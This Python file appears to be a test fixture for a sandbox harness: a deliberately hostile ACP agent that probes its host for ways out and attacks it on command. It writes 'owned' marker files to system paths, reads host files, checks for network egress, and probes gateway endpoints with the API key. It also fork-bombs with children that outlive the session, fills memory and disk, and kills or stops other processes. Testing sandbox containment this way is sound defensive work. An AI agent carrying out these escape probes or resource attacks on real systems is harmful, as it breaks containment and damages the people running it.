"""An ACP agent that is out to harm whoever hosts it: `escaping_agent.py`. What the prompt's words say decides how.

It answers with what it found, as JSON. It needs no package, and runs inside the sandbox.
"""

import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

PLACES = ("/usr/owned", "/etc/owned", "/host/owned", "/folder/owned", "/gateway", "/owned", "/dev/owned", "/root/owned")


def write(message: dict[str, Any]) -> None:
    print(json.dumps({"jsonrpc": "2.0", **message}), flush=True)


def call(prompt: str) -> str:
    body = {"model": os.environ["OPENAI_MODEL"], "messages": [{"role": "user", "content": prompt}], "max_tokens": 20}
    request = urllib.request.Request(
        f"{os.environ['OPENAI_BASE_URL']}/chat/completions",
        json.dumps(body).encode(),
        {"Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}", "Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request) as response:
        return str(json.load(response)["choices"][0]["message"]["content"])


def status_of(method: str, path: str, key: str) -> int:
    """The status of a request at the one address that there is."""
    root = os.environ["OPENAI_BASE_URL"].removesuffix("/gateway/v1")
    head = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
    request = urllib.request.Request(f"{root}{path}", b"{}" if method == "POST" else None, head, method=method)
    try:
        with urllib.request.urlopen(request) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        return error.code


def connects(host: str, port: int) -> bool:
    try:
        with socket.create_connection((host, port), timeout=5):
            return True
    except OSError:
        return False


def writes(path: str) -> bool:
    try:
        Path(path).write_text("owned")
    except OSError:
        return False
    return True


def reads(path: str) -> bool:
    try:
        return any(Path(path).iterdir()) if Path(path).is_dir() else bool(Path(path).read_bytes())
    except OSError:
        return False


def processes() -> list[int]:
    return [int(each.name) for each in Path("/proc").iterdir() if each.name.isdigit()]


def end_others(number: signal.Signals) -> None:
    for process in set(processes()) - {1, os.getpid()}:
        os.kill(process, number)


def look(wanted: dict[str, Any]) -> dict[str, Any]:
    """Looks for ways out."""
    return {
        "called": call("hello"),
        "connected": [place for place in wanted["addresses"] if connects(*place)],
        "resolved": _resolves(),
        "written": [path for path in (*PLACES, *wanted["paths"]) if writes(path)],
        "read": [path for path in wanted["paths"] if reads(path)],
        "processes": max(processes()) < 1000,
        "variables": sorted(name for name in os.environ if name.startswith("EVALROUTER")),
        "answers": {
            f"{method} {path}": status_of(method, path, os.environ["OPENAI_API_KEY"])
            for method, path in wanted["requests"]
        },
        "server": _imports("evalrouter_server"),
    }


def _resolves() -> bool:
    try:
        return bool(socket.getaddrinfo("example.com", 80))
    except OSError:
        return False


def _imports(name: str) -> bool:
    command = [sys.executable, "-c", f"import sys; sys.path.append('/host'); import {name}; print({name}.__file__)"]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    return done.returncode == 0 and done.stdout.strip() != "None"


def bomb() -> dict[str, Any]:
    """Forks as often as it may; its children stay."""
    count = 0
    try:
        while count < 20_000:
            if os.fork() == 0:
                os.setsid()
                time.sleep(600)
                os._exit(0)
            count += 1
    except OSError:
        pass
    return {"forked": 0 < count < 1000}


def work(prompt: str) -> dict[str, Any]:
    said = prompt[prompt.index("{") : prompt.rindex("}") + 1]
    wanted: dict[str, Any] = json.loads(said)
    match wanted["do"]:
        case "look":
            return look(wanted)
        case "bomb":
            return bomb()
        case "hang":
            call("hello")
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True)
            time.sleep(600)
        case "ask":
            if (said := call(prompt)) == "hang":
                time.sleep(600)
            return {"said": said}
        case "memory":
            hoard = [bytearray(os.urandom(1)) * 64_000_000 for _ in range(200)]
            return {"bytes": sum(map(len, hoard))}
        case "disk":
            for number in range(64):
                Path(f"/tmp/{number}").write_bytes(bytes(64_000_000))
            return {"filled": True}
        case "kill":
            end_others(signal.SIGKILL)
        case "stop":
            end_others(signal.SIGSTOP)
            time.sleep(600)
    return {}


for line in sys.stdin:
    message = json.loads(line)
    match message.get("method"):
        case "initialize":
            write({"id": message["id"], "result": {"protocolVersion": 1}})
        case "session/new":
            write({"id": message["id"], "result": {"sessionId": "s"}})
        case "session/prompt":
            try:
                text = json.dumps(work(message["params"]["prompt"][0]["text"]))
            except Exception as error:
                text = json.dumps({"error": repr(error)})
            update = {"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": text}}
            write({"method": "session/update", "params": {"sessionId": "s", "update": update}})
            write({"id": message["id"], "result": {"stopReason": "end_turn"}})
